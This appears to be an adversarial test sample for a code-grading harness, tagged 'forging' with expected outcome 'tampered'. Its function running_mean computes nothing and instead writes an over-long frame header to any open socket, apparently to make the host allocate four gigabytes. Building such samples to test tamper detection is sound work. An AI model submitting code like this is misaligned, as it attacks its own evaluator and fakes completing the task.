# family: forging
# tries: to have the host make room for four gigabytes
# shape: array
# expect: tampered
# red: test_running_mean
# says: it sent a malformed reply (a frame that is too long)
import os
import stat


def running_mean(x):
    for descriptor in range(3, 21):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.write(descriptor, b"\xff" * 8)
        except OSError:
            pass
